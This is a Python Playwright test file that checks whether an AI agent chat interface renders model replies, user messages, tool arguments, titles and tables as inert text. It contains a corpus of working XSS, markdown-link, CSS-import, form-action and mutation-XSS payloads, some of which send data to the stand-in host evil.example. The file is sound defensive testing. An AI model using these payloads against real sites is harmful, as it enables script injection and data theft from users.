"""What a model, a function or a title says is data: none of it runs, loads, or passes for the page's own."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, Request, expect

from tests.browser.conftest import Server
from tests.browser.pages import at_rest, begin, card, put_agent, replies, said, write

EVIL = "https://evil.example"
CORPUS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '<a href="javascript:window.pwned=1">click</a>',
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java&#115;cript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:msgbox)",
    "[click](//evil.example/x)",
    '[click](https://ok.example "onmouseover=window.pwned=1")',
    "[a](https://ok.example'onclick='window.pwned=1)",
    f"![pixel]({EVIL}/p.png?secret=1)",
    f'![x]({EVIL}/"onerror="window.pwned=1)',
    f"<img src={EVIL}/p.png>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import url({EVIL}/x.css); body {{ display: none }}</style>",
    f"<div style='background:url({EVIL}/x)'>styled</div>",
    f"<form action={EVIL}><input name=a><button>Confirm</button></form>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}>",
    "<math><mtext></p><style><img src=x onerror=window.pwned=1></style></mtext></math>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "![x](x onerror=window.pwned=1)",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "```\n</code></pre><script>window.pwned=1</script>\n```",
    "```<img/src=x/onerror=window.pwned=1>\ncode\n```",
    "| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "`<img src=x onerror=window.pwned=1>`",
    "<p id=message>clobbered</p><form id=composer></form><a id=log name=log>",
    "[x]: javascript:window.pwned=1\n\n[click][x]",
    "<https://ok.example/\"onmouseover='window.pwned=1'>",
    "\u202eevil\u202c {{constructor.constructor('window.pwned=1')()}} ${window.pwned=1}",
    "<x-y onclick=window.pwned=1>odd</x-y><!--><script>window.pwned=1</script-->",
]
ALL = "\n\n".join(CORPUS)
ALLOWED = "http:", "https:", "mailto:"
FOREIGN = "iframe, script, style, link, video, object, embed, base, meta, form:not(#composer, .proposal-form)"


@pytest.fixture
def watched(page: Page, server: Server) -> Iterator[Page]:
    """A page at whose end nothing has run, and nothing was asked of another host."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((server.url, "blob:")):
            asked.append(request.url)

    page.on("request", note)
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    yield page
    assert page.evaluate("window.pwned") is None
    assert asked == []
    assert page.locator(f"#main :is({FOREIGN})").count() == 0
    assert page.locator("#main .prose :is([style], [id], img)").count() == 0
    links: list[str] = page.evaluate(
        "[...document.querySelectorAll('.prose a[href]')].map((a) => a.protocol)"
    )
    assert set(links) <= set(ALLOWED)
    assert page.locator("#composer").count() == 1
    assert page.url.startswith(server.url)


def test_a_model_that_writes_markup_writes_text(watched: Page, server: Server) -> None:
    put_agent(server, "evil", settings={"script": [{"text": f"{ALL}\n\nThe end."}]})
    begin(watched, server, "evil")
    write(watched, "go")
    said(watched, "The end.")
    at_rest(watched)
    expect(replies(watched)).to_contain_text("<script>window.pwned = 1</script>")
    for link in watched.locator(".prose a[href]").all():
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    watched.reload()
    said(watched, "The end.")
    conversation = watched.url
    watched.goto(conversation.replace("#/chat/", "#/runs/"))
    watched.locator(".row-head", has_text="InvokeModel").click()
    watched.locator(".row-head", has_text="RecordReply").click()
    expect(watched.locator("#main")).to_contain_text("<script>window.pwned = 1</script>")
    assert watched.locator("#main :is(img, [onerror], [onload], a[href^=javascript])").count() == 0
    watched.goto(conversation)
    said(watched, "The end.")


def test_markup_in_pieces_of_a_stream_is_no_more_than_text(watched: Page, server: Server) -> None:
    text = " ".join(CORPUS[:20]).replace("<", " <").replace("](", " ](")
    put_agent(server, "evil", settings={"script": [{"text": f"{text} The end."}], "delay": 0.005})
    begin(watched, server, "evil")
    write(watched, "go")
    said(watched, "The end.")


def test_a_person_who_pastes_markup_sees_it_as_it_is_also_in_titles(watched: Page, server: Server) -> None:
    begin(watched, server)
    text = "<img src=x onerror=window.pwned=1><b>Title</b>"
    write(watched, text)
    said(watched, "How can I help?")
    expect(watched.locator("#log .mine-text")).to_have_text(text)
    expect(watched.locator("#title")).to_have_text(text)
    expect(watched.locator(".threads .thread-title")).to_have_text(text)
    watched.reload()
    expect(watched.locator("#title")).to_have_text(text)


def test_names_questions_arguments_results_and_tables_are_text(watched: Page, server: Server) -> None:
    markup = "<img src=x onerror=window.pwned=1>"
    asked = {"name": "createTask", "arguments": {"title": markup, "description": ALL[:1500]}}
    unknown = {"name": "doIt", "arguments": {"<b>": ALL[:800], "n": [markup], "o": {"p": markup}}}
    function = {
        "name": "createTask",
        "confirmation_question": f"{markup} Create {{title}}?",
        "implementation": {"kind": "class", "class_name": "createTask"},
    }
    actions = f'[{{"label": "{markup}", "message": "{markup}"}}]'
    put_agent(
        server,
        "evil",
        name=markup,
        description=markup,
        functions=[function],
        propose_actions=True,
        predefined_messages=[{"id": "x", "title": markup, "prompt": markup}],
        settings={
            "script": [
                {"when": "go", "tool_calls": [asked, unknown]},
                {"when": "go", "text": "The end."},
                {"purpose": "suggestions", "text": actions},
            ]
        },
    )
    watched.reload()
    begin(watched, server, "evil")
    expect(watched.locator(".agent-card").filter(has_text=markup).first).to_be_visible()
    write(watched, "go")
    expect(card(watched)).to_contain_text(markup)
    for summary in watched.locator(".call > summary").all():
        summary.click()
    watched.goto(f"{server.url}/#/approvals")
    expect(card(watched)).to_contain_text(markup)
    card(watched).get_by_role("button", name="Edit the arguments").click()
    card(watched).get_by_role("button", name="Confirm with these").click()
    watched.get_by_role("link", name="go", exact=True).or_(watched.locator(".threads a")).first.click()
    said(watched, "The end.")
    expect(watched.get_by_role("button", name=markup)).to_be_visible()


def test_a_table_of_a_function_is_text(watched: Page, server: Server) -> None:
    begin(watched, server)
    # Whatever a function puts there, also where the page expects another shape.
    watched.evaluate(
        """async () => {
            const { tableOf } = await import("/values.js");
            const evil = "<img src=x onerror=window.pwned=1>";
            for (const data of [
                [{ [evil]: evil }],
                { columns: [{ key: "a", label: evil }], rows: [{ a: evil }] },
                { columns: [evil], rows: [[{ x: evil }], [null], [evil]] },
                { columns: null, rows: [null, 1, "x", [evil]] },
                { columns: [null, {}], rows: [{}] },
                { rows: {} }, [], "text", 5, null, { columns: 5, rows: [[1]] },
            ]) {
                const table = tableOf(data);
                if (table) document.getElementById("main").append(table);
            }
        }"""
    )
    expect(watched.locator("#main .table").first).to_be_visible()
